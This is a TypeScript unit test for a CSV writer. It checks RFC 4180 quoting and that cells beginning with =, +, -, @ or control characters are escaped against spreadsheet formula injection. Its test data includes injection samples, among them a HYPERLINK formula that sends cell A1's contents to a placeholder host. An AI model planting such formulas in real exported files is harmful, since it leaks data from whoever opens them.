import assert from 'node:assert/strict';
import { test } from 'node:test';

import { csvRecord } from '../../src/core/csv.ts';

test('a record is as RFC 4180 asks, and nothing in it is a formula', () => {
  const cells: [value: string | boolean | null, written: string][] = [
    ['plain', 'plain'],
    ['', ''],
    [null, ''],
    [true, 'true'],
    ['Ünïcode 🦆', 'Ünïcode 🦆'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['a=1+1', 'a=1+1'],
    ["'=1", "'=1"],
    ['=1+1', "'=1+1"],
    ['+31 6', "'+31 6"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['\n=1', '"\'\n=1"'],
    ['＝1', "'＝1"],
    ['=HYPERLINK("http://x/?"&A1,"y")', '"\'=HYPERLINK(""http://x/?""&A1,""y"")"'],
  ];
  for (const [value, written] of cells) assert.equal(csvRecord([value]), `${written}\r\n`);
  assert.equal(csvRecord(['a', null, false, 'b,c']), 'a,,false,"b,c"\r\n');
});
